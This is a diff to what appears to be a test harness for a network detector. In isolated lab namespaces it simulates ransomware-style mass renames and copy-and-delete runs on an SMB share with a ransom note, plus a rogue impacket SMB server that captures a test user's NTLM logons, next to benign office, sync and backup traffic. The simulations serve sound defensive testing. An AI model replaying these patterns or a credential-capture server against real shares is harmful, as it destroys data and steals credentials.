@@ -3360,6 +3360,98 @@ scn_benign_dns_secondary() {
 	kill $n1 $n2; wait $n1 $n2 2>/dev/null || true
 	grep -hE 'transfer|notify|Transfer' "$tmp/named1.log" "$tmp/named2.log" | tail -12
 }
+# Session 37 (fix37b): SMB ransomware and the ordinary shapes beside it
+# (review 37a P1), a capture tool's SMB server (P11). start_smbshare: the
+# NAS's smbd with the writable guest share "share" (SMB2 and later, not
+# encrypted: Samba's default), its Finance folder holding 60 invoices.
+start_smbshare() {
+	mkdir -p "$tmp/smbw"/{lock,state,cache,private,pid,ncalrpc,binddns} "$tmp/share/Finance" "$tmp/share/Photos"
+	local i; for i in $(seq 60); do echo "invoice $i" >"$tmp/share/Finance/invoice-$i.xlsx"; echo "report $i" >"$tmp/share/Finance/report-$i.docx"; done
+	chmod -R a+rwX "$tmp/share"
+	cat >"$tmp/smbw.conf" <<EOF
+[global]
+workgroup = LAB
+server role = standalone server
+interfaces = $nas/24
+bind interfaces only = yes
+smb ports = 445
+disable netbios = yes
+server min protocol = SMB2
+map to guest = Bad User
+lock directory = $tmp/smbw/lock
+state directory = $tmp/smbw/state
+cache directory = $tmp/smbw/cache
+private dir = $tmp/smbw/private
+pid directory = $tmp/smbw/pid
+ncalrpc dir = $tmp/smbw/ncalrpc
+binddns dir = $tmp/smbw/binddns
+log file = $tmp/smbw/log
+load printers = no
+printcap name = /dev/null
+disable spoolss = yes
+[share]
+path = $tmp/share
+read only = no
+guest ok = yes
+force user = root
+EOF
+	spawn nas smbd -F -s "$tmp/smbw.conf"
+	for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
+}
+stop_smbshare() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbw.conf /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true; }
+smbshare() { inns pc smbclient "//$nas/share" -N -m SMB3 -s "$tmp/smbw.conf" -c "$1"; }
+# Ransomware renaming each file it encrypted in place to one new
+# extension: 60 SET_INFO FileRenameInformation in a second, then its note.
+scn_smb_ransomware_rename() {
+	start_smbshare
+	local c="" i; for i in $(seq 60); do c="$c rename Finance\\invoice-$i.xlsx Finance\\invoice-$i.xlsx.crypted;"; done
+	smbshare "$c put /etc/hostname Finance\\HOW-TO-DECRYPT.txt" | tail -2
+	stop_smbshare
+}
+# Ransomware writing each encrypted copy under the old name plus its
+# extension and deleting the original: read, write, delete, 60 times.
+scn_smb_ransomware_copy_delete() {
+	start_smbshare
+	local c="" i; for i in $(seq 60); do c="$c get Finance\\report-$i.docx $tmp/enc; put $tmp/enc Finance\\report-$i.docx.enc; del Finance\\report-$i.docx;"; done
+	smbshare "$c" | tail -2
+	stop_smbshare
+}
+# Office saving 60 documents: each through ~WRD.tmp (written), the old
+# document renamed ~WRL.tmp, the new one renamed to the document's name,
+# ~WRL.tmp deleted; then a sync client's downloads (photo-N.jpg.part
+# renamed photo-N.jpg, rsync's hidden .photo-N.jpg.XXXXXX likewise), a
+# bulk rename keeping each extension (IMG_N.JPG to holiday-N.jpg) and a
+# backup writing 60 files under their own names: quiet.
+scn_benign_smb_office_sync_backup() {
+	start_smbshare
+	local c="" i; echo doc >"$tmp/doc"
+	for i in $(seq 60); do c="$c put $tmp/doc Finance\\~WRD00$i.tmp; rename Finance\\report-$i.docx Finance\\~WRL00$i.tmp; rename Finance\\~WRD00$i.tmp Finance\\report-$i.docx; del Finance\\~WRL00$i.tmp;"; done
+	smbshare "$c" | tail -1
+	c=""; for i in $(seq 60); do c="$c put $tmp/doc Photos\\photo-$i.jpg.part; rename Photos\\photo-$i.jpg.part Photos\\photo-$i.jpg; put $tmp/doc Photos\\.pic-$i.jpg.a${i}Xq; rename Photos\\.pic-$i.jpg.a${i}Xq Photos\\pic-$i.jpg;"; done
+	smbshare "$c" | tail -1
+	c=""; for i in $(seq 60); do c="$c put $tmp/doc Photos\\IMG_$i.JPG; rename Photos\\IMG_$i.JPG Photos\\holiday-$i.jpg;"; done
+	smbshare "$c" | tail -1
+	mkdir -p "$tmp/bk"; for i in $(seq 60); do echo "$i" >"$tmp/bk/file-$i.xlsx"; done
+	smbshare "prompt off; lcd $tmp/bk; mkdir Backup; cd Backup; mput *; mput *" | tail -1
+	stop_smbshare
+}
+# A capture tool's SMB server (impacket smbserver.py) on .66; the PC logs
+# on to it with a user's password three times: its NTLM challenge is
+# 0xaaaaaaaaaaaaaaaa every time. credential_capture High on .66.
+scn_rogue_smbserver_impacket() {
+	mkdir -p "$tmp/rs"; echo x >"$tmp/rs/readme.txt"
+	spawn evil "$py" /usr/share/doc/python3-impacket/examples/smbserver.py -smb2support share "$tmp/rs"
+	local i; for i in $(seq 50); do inns evil ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
+	for i in 1 2 3; do inns pc timeout 15 smbclient "//$NET.66/share" -U 'LAB/alice%Alice!Pass2026' -c ls || true; sleep 1; done
+	local p; for p in $(ip netns pids "$P-evil"); do grep -qa smbserver.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true
+}
+# The same logons to the NAS's Samba (a random challenge each): quiet.
+scn_benign_smb_logons_samba() {
+	start_smbshare
+	local i; for i in 1 2 3; do smbshare ls | tail -1; sleep 1; done
+	inns pc timeout 15 smbclient "//$nas/share" -U 'LAB/alice%Alice!Pass2026' -m SMB3 -s "$tmp/smbw.conf" -c ls | tail -1 || true
+	stop_smbshare
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
